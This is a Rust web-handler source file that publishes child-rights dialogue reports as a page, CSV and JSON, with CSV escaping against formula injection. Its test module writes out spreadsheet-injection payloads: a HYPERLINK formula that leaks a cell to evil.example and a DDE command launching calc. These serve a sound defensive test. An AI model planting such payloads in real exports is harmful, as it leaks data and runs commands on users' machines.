//! Public lists of published dialogue reports, per embete, unit and cycle, as a page,
//! as CSV and as JSON (open data). Nothing unpublished is ever listed.

use crate::AppState;
use crate::ctx::Ctx;
use crate::error::AppError;
use crate::routes::pages::{Page, render};
use askama::Template;
use axum::Json;
use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, header};
use axum::response::{IntoResponse, Response};
use samla_app::public::PublicDialogue;
use samla_db::dialogue::{self, Published, ReportFilter};
use samla_db::regions;
use samla_db::tags::{self, Tag};
use samla_domain::access::PublicView;
use samla_domain::dialogue::Unit;
use samla_domain::regions::{Embete, parse_municipality_number};
use samla_domain::{DomainError, ErrorCode};
use serde::{Deserialize, Serialize};

#[derive(Deserialize, Default, Clone, utoipa::IntoParams)]
#[into_params(parameter_in = Query)]
pub struct ReportsQuery {
    /// An embete's code: only its reports. Empty or left out: every embete.
    #[serde(default)]
    #[param(schema_with = crate::routes::api::embete_filter)]
    embete: String,
    /// A municipality number (its predecessors and successors are included) or a district
    /// number. Empty: no filter.
    #[serde(default)]
    #[param(schema_with = samla_domain::schema::unit_filter)]
    unit: String,
    /// Only this cycle's reports. Empty: no filter.
    #[serde(default)]
    #[param(schema_with = samla_domain::schema::cycle_filter)]
    cycle: String,
    /// Reports with a finding tagged with this article of the Convention on the Rights of
    /// the Child (400 invalid_crc_article outside 1–54). Empty: no filter.
    #[serde(default)]
    #[param(schema_with = samla_domain::schema::crc_article_filter)]
    crc_article: String,
    /// Reports with a finding tagged with this Sjumilssteget step, national version (400
    /// invalid_step outside 1–7). Empty: no filter.
    #[serde(default)]
    #[param(schema_with = samla_domain::schema::step_filter)]
    step: String,
}

/// The reports the query asks for; a unit includes its predecessors and successors.
async fn select(state: &AppState, q: &ReportsQuery) -> Result<Vec<Published>, AppError> {
    let embete = Some(q.embete.trim()).filter(|s| !s.is_empty());
    if let Some(code) = embete
        && !regions::embete_exists(&state.db, code).await?
    {
        return Err(DomainError::field(ErrorCode::UnknownEmbete, "embete").into());
    }
    let cycle = match q.cycle.trim() {
        "" => None,
        s => Some(
            s.parse::<i64>()
                .ok()
                .filter(|id| *id >= 1)
                .ok_or(DomainError::field(ErrorCode::InvalidInput, "cycle"))?,
        ),
    };
    let units = match q.unit.trim() {
        "" => None,
        s if s.len() == 6 && s.bytes().all(|b| b.is_ascii_digit()) => Some(vec![s.to_owned()]),
        s => {
            let number = parse_municipality_number(s)
                .map_err(|_| DomainError::field(ErrorCode::UnknownUnit, "unit"))?;
            Some(
                regions::lineage(&state.db, &number)
                    .await?
                    .ok_or(DomainError::field(ErrorCode::UnknownUnit, "unit"))?,
            )
        }
    };
    let number = |text: &str, max: i64, code, field| match text.trim() {
        "" => Ok(None),
        s => s
            .parse::<i64>()
            .ok()
            .filter(|n| (1..=max).contains(n))
            .map(Some)
            .ok_or(DomainError::field(code, field)),
    };
    let filter = ReportFilter {
        embete: embete.map(str::to_owned),
        cycle,
        units,
        crc_article: number(
            &q.crc_article,
            54,
            ErrorCode::InvalidCrcArticle,
            "crc_article",
        )?,
        step: number(&q.step, 7, ErrorCode::InvalidStep, "step")?,
    };
    Ok(dialogue::published(&state.db, PublicView, &filter).await?)
}

#[derive(Template)]
#[template(path = "dialogue/reports.html")]
struct ReportsPage {
    page: Page,
    q: ReportsQuery,
    embeter: Vec<Embete>,
    reports: Vec<Published>,
    nav: crate::paging::PageNav,
    query_string: String,
    articles: Vec<Tag>,
    steps: Vec<Tag>,
}

impl ReportsPage {
    /// A tag as a choice: "12 – Retten til å bli hørt".
    fn tag_label(&self, tag: &Tag) -> String {
        format!("{} – {}", tag.number, tag.name(self.page.lang.code()))
    }
    fn chosen(&self, value: &str, tag: &Tag) -> bool {
        value.trim() == tag.number.to_string()
    }
    fn embete_name(&self, code: &str) -> String {
        self.embeter
            .iter()
            .find(|e| e.code == code)
            .map(|e| e.name.clone())
            .unwrap_or_else(|| code.to_owned())
    }
}

fn query_string(q: &ReportsQuery) -> String {
    format!(
        "embete={}&unit={}&cycle={}&crc_article={}&step={}",
        crate::error::urlencode(q.embete.trim()),
        crate::error::urlencode(q.unit.trim()),
        crate::error::urlencode(q.cycle.trim()),
        crate::error::urlencode(q.crc_article.trim()),
        crate::error::urlencode(q.step.trim())
    )
}

pub async fn page(
    State(state): State<AppState>,
    ctx: Ctx,
    uri: axum::http::Uri,
    Query(q): Query<ReportsQuery>,
    Query(p): Query<crate::paging::PageQuery>,
) -> Result<Response, AppError> {
    let paging = p.paging()?;
    let reports = select(&state, &q).await?;
    let nav = crate::paging::PageNav::new(paging, &uri, reports.len());
    let reports = paging.slice(reports);
    let title = ctx.t("reports-title");
    Ok(render(&ReportsPage {
        page: Page::new(&ctx, &title, "reports"),
        embeter: regions::embeter_on(&state.db, samla_domain::dates::today()).await?,
        query_string: query_string(&q),
        articles: tags::crc_articles(&state.db).await?,
        steps: tags::steps(&state.db, tags::NATIONAL_FRAMEWORK).await?,
        q,
        reports,
        nav,
    })?
    .into_response())
}

/// One CSV field, quoted when it must be (RFC 4180). A field that a spreadsheet would
/// read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return, or
/// their full-width forms) gets a leading apostrophe, so it is shown as text (OWASP's
/// advice on CSV injection).
fn csv_field(s: &str, separator: char) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if s.contains([separator, '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// How the CSV file is written: for programs (commas, stable column ids) or for a
/// spreadsheet in Norway (`?for=excel`: semicolons, which Norwegian Excel expects
/// between fields because the comma is its decimal sign; a byte-order mark, so Excel
/// reads UTF-8 and æøå come out right; column names in the reader's language).
#[derive(Debug, Default, Deserialize)]
pub struct CsvFor {
    #[serde(default, rename = "for")]
    target: String,
}

/// The columns: stable id and text key.
const CSV_COLUMNS: [(&str, &str); 10] = [
    ("id", "csv-col-id"),
    ("embete", "col-embete"),
    ("cycle_id", "csv-col-cycle-id"),
    ("cycle", "csv-col-cycle"),
    ("unit_number", "col-number"),
    ("unit_name", "col-unit"),
    ("unit_kind", "csv-col-unit-kind"),
    ("published_on", "col-published"),
    ("language", "csv-col-language"),
    ("url", "csv-col-url"),
];

pub async fn csv(
    State(state): State<AppState>,
    ctx: Ctx,
    headers: HeaderMap,
    Query(q): Query<ReportsQuery>,
    Query(target): Query<CsvFor>,
) -> Result<Response, AppError> {
    let reports = select(&state, &q).await?;
    let excel = target.target == "excel";
    let separator = if excel { ';' } else { ',' };
    // Links work where the file is opened, not only on this site.
    let origin = crate::ctx::origin(&state.config, &headers);
    let mut out = String::new();
    if excel {
        out.push('\u{FEFF}');
    }
    let names: Vec<String> = CSV_COLUMNS
        .iter()
        .map(|(id, key)| if excel { ctx.t(key) } else { (*id).to_owned() })
        .collect();
    push_row(&mut out, &names, separator);
    for r in &reports {
        let row = [
            r.id.to_string(),
            r.embete.clone(),
            r.cycle_id.to_string(),
            r.cycle.clone(),
            r.unit_number.clone(),
            r.unit_name.clone(),
            r.unit_kind.as_str().to_owned(),
            r.published_on.clone(),
            r.language.clone().unwrap_or_default(),
            format!("{origin}{}", r.url),
        ];
        push_row(&mut out, &row, separator);
    }
    let filename = if excel {
        "samla-dialograpporter-excel.csv"
    } else {
        "samla-dialograpporter.csv"
    };
    Ok(csv_file(filename, out))
}

/// A CSV download of published data, with its licence.
pub(crate) fn csv_file(filename: &str, body: String) -> Response {
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
            (
                header::LINK,
                format!(
                    "<{}>; rel=\"license\"",
                    samla_domain::publication::LICENCE_URL
                ),
            ),
        ],
        body,
    )
        .into_response()
}

pub(crate) fn push_row(out: &mut String, fields: &[String], separator: char) {
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(separator);
        }
        out.push_str(&csv_field(f, separator));
    }
    out.push_str("\r\n");
}

/// Published dialogue reports, newest first (also as CSV at /reports.csv).
///
/// In pages (`page`, `per_page`), with `Link` and `X-Total-Count`; the CSV file holds them all.
#[utoipa::path(get, path = "/dialogue/reports", operation_id = "published_reports", params(ReportsQuery, crate::paging::PageQuery),
    responses((status = 200, description = "Reports", body = Vec<Published>), (status = 422)))]
pub async fn json(
    State(state): State<AppState>,
    uri: axum::http::Uri,
    Query(q): Query<ReportsQuery>,
    Query(p): Query<crate::paging::PageQuery>,
) -> Result<Response, AppError> {
    let paging = p.paging()?;
    let reports = select(&state, &q).await?;
    let total = reports.len();
    Ok(paging.answer(&uri, total, paging.slice(reports)))
}

/// A published finding: its text and its tags with their names.
#[derive(Serialize, utoipa::ToSchema)]
pub struct PublicFinding {
    id: i64,
    body: String,
    crc_articles: Vec<Tag>,
    steps: Vec<Tag>,
}

/// A cycle as a published report names it.
#[derive(Serialize, utoipa::ToSchema)]
pub struct PublicCycle {
    id: i64,
    name: String,
}

/// What the public reads of a youth meeting: how many took part and their ages.
#[derive(Serialize, utoipa::ToSchema)]
pub struct PublicYouthMeeting {
    participants: Option<i64>,
    age_bands: Vec<String>,
}

/// A published report, whole.
#[derive(Serialize, utoipa::ToSchema)]
pub struct PublishedReport {
    id: i64,
    url: String,
    embete: String,
    cycle: PublicCycle,
    unit: Unit,
    #[schema(format = Date)]
    published_on: Option<String>,
    /// When the latest correction was published; null if never corrected.
    #[schema(format = Date)]
    corrected_on: Option<String>,
    correction_reason: Option<String>,
    #[schema(schema_with = samla_domain::schema::report_language)]
    language: String,
    child_summary: String,
    facts: String,
    leaders_said: String,
    youth_said: String,
    advice: String,
    youth_meeting: Option<PublicYouthMeeting>,
    findings: Vec<PublicFinding>,
    follow_ups: Vec<samla_domain::report::FollowUp>,
    /// The SHA-256 of the published version's content.
    sha256: String,
    licence: &'static str,
}

/// One published report, whole.
///
/// The version the public reads (while a correction is drafted, the one published
/// before it): every field, findings with their CRC articles and steps (with names),
/// follow-up items, the child-friendly summary, and when it was published and corrected.
/// A withdrawn report is 410 report_withdrawn; a dialogue without a published report is
/// 404. Published data, NLOD 2.0.
#[utoipa::path(get, path = "/dialogue/reports/{id}", operation_id = "published_report", params(crate::routes::api::IdPath),
    responses((status = 200, description = "The report", body = PublishedReport), (status = 404), (status = 410)))]
pub async fn one(
    State(state): State<AppState>,
    Path(id): Path<i64>,
) -> Result<Json<PublishedReport>, AppError> {
    let public = match samla_app::public::dialogue(&state.db, id).await? {
        PublicDialogue::Published(public) => public,
        PublicDialogue::Withdrawn(_) => {
            return Err(AppError::Code(ErrorCode::ReportWithdrawn));
        }
    };
    let articles = tags::crc_articles(&state.db).await?;
    let steps = tags::steps(&state.db, tags::NATIONAL_FRAMEWORK).await?;
    let pick = |all: &[Tag], text: &str| -> Vec<Tag> {
        text.split(',')
            .filter_map(|n| n.trim().parse::<i64>().ok())
            .filter_map(|n| all.iter().find(|t| t.number == n).cloned())
            .collect()
    };
    let r = &public.report;
    let findings: Vec<PublicFinding> = r
        .findings
        .iter()
        .map(|f| PublicFinding {
            id: f.id,
            body: f.body.clone(),
            crc_articles: pick(&articles, &f.crc_articles),
            steps: pick(&steps, &f.steps),
        })
        .collect();
    let corrected = public.corrected();
    let (cycle, dialogue) = (&public.cycle, &public.dialogue);
    Ok(Json(PublishedReport {
        id,
        url: format!("/dialogues/{id}"),
        embete: cycle.embete.clone(),
        cycle: PublicCycle {
            id: cycle.id,
            name: cycle.name.clone(),
        },
        unit: Unit {
            kind: dialogue.unit_kind,
            number: dialogue.unit_number.clone(),
            name: dialogue.unit_name.clone(),
        },
        published_on: public.published_on().map(str::to_owned),
        corrected_on: corrected.map(|p| p.published_on.clone()),
        correction_reason: corrected.and_then(|p| p.reason.clone()),
        language: r.language.clone(),
        child_summary: r.child_summary.clone(),
        facts: r.facts.clone(),
        leaders_said: r.leaders_said.clone(),
        youth_said: r.youth_said.clone(),
        advice: r.advice.clone(),
        youth_meeting: public.youth.as_ref().map(|y| PublicYouthMeeting {
            participants: y.participants,
            age_bands: y.age_bands.clone(),
        }),
        findings,
        follow_ups: r.follow_ups.clone(),
        sha256: r.sha256(),
        licence: samla_domain::publication::LICENCE,
    }))
}

#[cfg(test)]
mod tests {
    fn csv_field(s: &str) -> String {
        super::csv_field(s, ',')
    }

    #[test]
    fn for_excel_the_semicolon_is_what_is_quoted() {
        assert_eq!(
            super::csv_field("Østfold, Buskerud", ';'),
            "Østfold, Buskerud"
        );
        assert_eq!(super::csv_field("a;b", ';'), "\"a;b\"");
    }

    #[test]
    fn csv_fields_are_quoted_when_needed() {
        assert_eq!(csv_field("Hurdal"), "Hurdal");
        assert_eq!(csv_field("Østfold, Buskerud"), "\"Østfold, Buskerud\"");
        assert_eq!(csv_field("a \"b\""), "\"a \"\"b\"\"\"");
    }

    /// F9 of the security review: a cycle name that a spreadsheet would run.
    #[test]
    fn csv_fields_that_look_like_formulas_are_text() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klikk her\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Klikk her\"\")\""
        );
        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("＝1+1"), "'＝1+1");
        assert_eq!(csv_field("2019-03-01"), "2019-03-01");
    }
}
